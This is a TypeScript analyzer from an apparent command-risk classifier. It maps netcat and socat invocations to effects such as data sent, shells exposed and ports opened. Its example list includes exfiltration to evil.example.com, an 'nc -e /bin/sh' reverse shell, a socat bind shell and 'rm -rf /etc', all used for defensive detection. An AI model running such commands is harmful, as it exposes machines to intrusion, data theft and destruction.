import type { Effect } from "../../core/effect.ts";
import type { Analyzer, Command, Finding, Scene, Word } from "../analyzer.ts";
import { effect, fileEffects, found, unknownEffect } from "../effects.ts";
import { hostEnvironment, isLoopback } from "../environment.ts";
import { machineEffect } from "../machine.ts";
import { cutWord, literal, type Options, parseOptions } from "../options.ts";
import { readEffects } from "../reading.ts";
import { OPAQUE, REMOTE } from "../words.ts";

export const analyzer: Analyzer = {
  name: "sockets",
  title: "Raw connections: nc, ncat, socat",
  about: "What is sent where, what is opened to others, and programs that are handed a connection.",
  programs: ["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat"],
  analyze: (command, scene) => (command.program === "socat" ? socat(command, scene) : netcat(command, scene)),
  examples: [
    { run: "nc -zv localhost 5432", does: [], tier: 0 },
    {
      run: "cat dump.sql | nc evil.example.com 4444",
      does: ["send network.connection evil.example.com 4444 @unknown"],
      tier: 3,
    },
    {
      run: "nc -e /bin/sh evil.example.com 4444",
      does: ["expose shell evil.example.com 4444 @unknown"],
      tier: 4,
    },
    { run: "nc -l 8080", does: ["expose network.port 8080 @local"], tier: 1 },
    {
      run: "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
      does: ["expose shell TCP-LISTEN:4444,fork @local"],
      tier: 3,
    },
    { run: "socat - TCP:localhost:6379", does: [], tier: 0 },
    {
      run: "socat TCP-LISTEN:8080,fork TCP:db.example.com:5432",
      does: ["expose network.tunnel TCP-LISTEN:8080,fork TCP:db.example.com:5432 @local"],
      tier: 2,
    },
    { run: "socat - EXEC:'rm -rf /etc'", does: ["delete directory /etc @local"], tier: 3 },
  ],
};

const NETCAT_VALUES =
  "-e -c -g -G -i -I -m -M -o -O -p -P -q -s -T -V -w -W -x -X --exec --sh-exec --lua-exec --source --source-port --wait --idle-timeout --output --hex-dump --proxy --proxy-type --proxy-auth --delay --max-conns --allow --deny --ssl-cert --ssl-key".split(
    " ",
  );

function netcat(command: Command, scene: Scene): Finding {
  const options = parseOptions(command.args, { values: NETCAT_VALUES });
  const name = options.operands.map((word) => word.source).join(" ") || (options.value("-p")?.source ?? "");
  const listens = options.has("-l", "--listen");
  const by = command.source;
  const starts = options.values(
    "-e",
    "--exec",
    "--sh-exec",
    "--lua-exec",
    ...(command.program === "ncat" || command.program === "nc.traditional" ? ["-c"] : []),
  );
  const files = options
    .values("-o", "--output", "--hex-dump")
    .flatMap((file) => fileEffects("change", file, scene, { by }));
  if (starts.length > 0 || (options.has("-c") && command.program === "nc"))
    return found([...files, shellExposed(name, listens ? undefined : options.operands[0]?.text, by, scene)]);
  if (options.has("-z")) return { effects: files, output: OPAQUE };
  if (listens) return found([...files, listening(name || by, by, scene)], REMOTE);
  return found([...files, ...connection(options, name, command, scene)], REMOTE);
}

/** A program that talks to whoever is at the other end of a connection: a remote shell. */
function shellExposed(name: string, host: string | undefined, by: string, scene: Scene): Effect {
  const environment = host === undefined ? "local" : hostEnvironment(host, scene);
  return effect({
    verb: "expose",
    kind: "shell",
    name,
    environment: environment === "development" ? "local" : environment,
    marks: ["outside", "system"],
    by,
  });
}

function listening(name: string, by: string, scene: Scene): Effect {
  return machineEffect(scene, { verb: "expose", kind: "network.port", name, reversibility: "R1", by });
}

/**
 * Whatever flows in is sent, to every host but this machine: a declared environment says nothing about where a raw
 * connection leads.
 */
function connection(options: Options, name: string, command: Command, scene: Scene): readonly Effect[] {
  const [host] = options.operands;
  const by = command.source;
  if (command.stdin.kind === "none") return [];
  if (options.has("-U", "--unixsock")) return throughSocket(host?.text ?? "?", by, scene);
  if (host?.text !== undefined && isLoopback(host.text)) return [];
  return [sent(name, host?.text, by, scene)];
}

function sent(name: string, host: string | undefined, by: string, scene: Scene): Effect {
  return effect({
    verb: "send",
    kind: "network.connection",
    name,
    environment: hostEnvironment(host, scene),
    reversibility: "R3",
    marks: ["upload"],
    by,
  });
}

/** A socket of this machine is as local as who listens; a container engine's gives the whole machine away. */
function throughSocket(path: string, by: string, scene: Scene): readonly Effect[] {
  return /(docker|containerd|podman|crio|dockershim)[^/]*\.sock$|^\?$/.test(path)
    ? [unknownEffect(scene, "container-engine", path, by, ["privileged"])]
    : [];
}

/** `socat ADDRESS ADDRESS` (socat(1)): what each address opens, and whether one of them starts a program. */
function socat(command: Command, scene: Scene): Finding {
  const options = parseOptions(command.args, {
    values: ["-b", "-t", "-T", "-L", "-W", "-lf", "-lp", "-r", "-R", "-S"],
  });
  const { operands } = options;
  const by = command.source;
  const program = operands.find((word) => /^(exec|system|shell):/i.test(word.text ?? word.prefix));
  const unknown = operands
    .filter((word) => word.text === undefined && word.prefix === "")
    .map((word) => unknownEffect(scene, "network", word.source, by));
  const other = operands.filter((word) => word !== program);
  const listener = other.find((word) =>
    /^(tcp|udp|ssl|openssl|sctp|unix|abstract|vsock)?\d?-?(listen|recv|recvfrom|l)(:|$)/i.test(
      word.text ?? word.prefix,
    ),
  );
  const target = other.find(
    (word) => /^(tcp|udp|ssl|openssl|sctp|socks|proxy)/i.test(word.text ?? word.prefix) && word !== listener,
  );
  const host = /^[\w-]+:([^:,]+)/.exec(target?.text ?? "")?.[1];
  if (program && (listener || target))
    return found([
      ...unknown,
      shellExposed((listener ?? target)?.source ?? "", listener ? undefined : (host ?? "unknown"), by, scene),
    ]);
  if (program)
    return found([
      ...unknown,
      ...scene.shell((program.text ?? "").replace(/^\w+:/, "").replace(/,.*$/, "")).effects,
    ]);
  const oneWay = options.has("-u") ? "forward" : options.has("-U") ? "back" : undefined;
  const opened = operands.flatMap((word, at) => openedFile(word, at, oneWay, by, scene));
  const files = opened.flatMap(({ effects }) => effects);
  const forwards =
    listener && target && !isLoopback(host ?? "")
      ? [
          effect({
            verb: "expose",
            kind: "network.tunnel",
            name: `${listener.source} ${target.source}`,
            environment: "local",
            reversibility: "R1",
            marks: ["outside"],
            by,
          }),
        ]
      : [];
  const opens = listener && forwards.length === 0 ? [listening(listener.source, by, scene)] : [];
  const flows = command.stdin.kind !== "none" || opened.some(({ read }) => read);
  const sends =
    target && !listener && flows && !isLoopback(host ?? "") ? [sent(target.source, host, by, scene)] : [];
  const local = other.map((word) => /^unix(-connect|-client)?:([^,]+)/i.exec(word.text ?? "")?.[2]);
  const engines = local.flatMap((path) => (path && flows ? throughSocket(path, by, scene) : []));
  return found([...unknown, ...files, ...forwards, ...opens, ...sends, ...engines], REMOTE);
}

interface Opened {
  readonly effects: readonly Effect[];
  readonly read: boolean;
}

/** A file as an address: with `-u` the first is read and the second written, without it each is both (socat(1)). */
function openedFile(
  word: Word,
  at: number,
  oneWay: "forward" | "back" | undefined,
  by: string,
  scene: Scene,
): readonly Opened[] {
  const text = word.text ?? word.prefix;
  if (!/^(open|create|file|gopen):|^[/.]/i.test(text)) return [];
  const cut = /^\w+:/.exec(text)?.[0].length ?? 0;
  const file = cutWord(word, cut);
  const named = file.text === undefined ? file : literal(file.text.replace(/,.*$/, ""));
  const first = (at === 0) === (oneWay !== "back");
  const read = !/^create:/i.test(text) && (oneWay === undefined || first);
  const written = oneWay === undefined || !first;
  return [
    {
      effects: [
        ...(read ? readEffects([named], scene, { by }) : []),
        ...(written ? fileEffects("change", named, scene, { by }) : []),
      ],
      read,
    },
  ];
}
